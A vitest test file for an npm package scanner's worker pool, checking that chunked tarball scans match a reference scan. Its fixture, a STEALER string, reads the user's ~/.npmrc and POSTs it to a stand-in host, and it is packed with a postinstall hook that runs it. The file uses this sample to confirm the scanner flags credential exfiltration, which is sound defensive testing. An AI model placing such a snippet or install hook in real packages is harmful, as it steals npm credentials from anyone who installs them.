import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { Readable } from 'node:stream';
import { packTree, tempDir } from './support.js';

// The pool scans in worker threads from helper/dist: `npm run build` first.
const { ScanPool } = await import('../../helper/dist/scan/pool.js');
const { scanTarball } = await import('../../helper/dist/scan/index.js');

const STEALER = "const fs = require('fs'); const https = require('https');\nconst t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nhttps.request({ host: 'example.invalid', method: 'POST' }).end(t);\n";

/** A stream that hands over `bytes` in chunks of `size` (a socket's small reads, a file's large ones). */
function chunked(bytes: Buffer, size: number): Readable {
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += size) parts.push(bytes.subarray(i, i + size));
  return Readable.from(parts, { objectMode: false });
}

let work: Awaited<ReturnType<typeof tempDir>>;
let small: Buffer;
let large: Buffer;
beforeAll(async () => {
  work = await tempDir();
  small = await readFile(await packTree(work.dir, 'small', { scripts: { postinstall: 'node steal.js' } }, { 'steal.js': STEALER }));
  // Incompressible content, so the compressed tarball spans more than one 1 MiB input batch of the worker.
  large = await readFile(await packTree(work.dir, 'large', { scripts: { postinstall: 'node steal.js' } }, { 'steal.js': STEALER, 'blob.bin': randomBytes(1_500_000) }));
});
afterAll(() => work.cleanup());

describe('ScanPool.scan', () => {
  it('reports what scanTarball reports, whatever the size of the chunks the tarball arrives in', async () => {
    const pool = new ScanPool({ concurrency: 2 });
    try {
      expect(large.length).toBeGreaterThan(1024 * 1024);
      for (const tarball of [small, large]) {
        const expected = await scanTarball(Readable.from([tarball]));
        expect(expected.findings.some((f) => f.rule === 'credential-exfil' && f.severity === 'critical')).toBe(true);
        for (const size of [7, 16 * 1024, 64 * 1024, 3 * 1024 * 1024]) {
          expect(await pool.scan(chunked(tarball, size))).toEqual(expected);
        }
      }
    } finally {
      await pool.close();
    }
  });

  it('scans packages one after another on the same worker without mixing their bytes', async () => {
    const pool = new ScanPool({ concurrency: 1 });
    try {
      const reports = await Promise.all([large, small, large].map((t) => pool.scan(chunked(t, 100_000))));
      expect(reports.map((r) => r.bytes)).toEqual([(await scanTarball(Readable.from([large]))).bytes, (await scanTarball(Readable.from([small]))).bytes, (await scanTarball(Readable.from([large]))).bytes]);
      expect(reports[0]).toEqual(reports[2]);
    } finally {
      await pool.close();
    }
  });
});
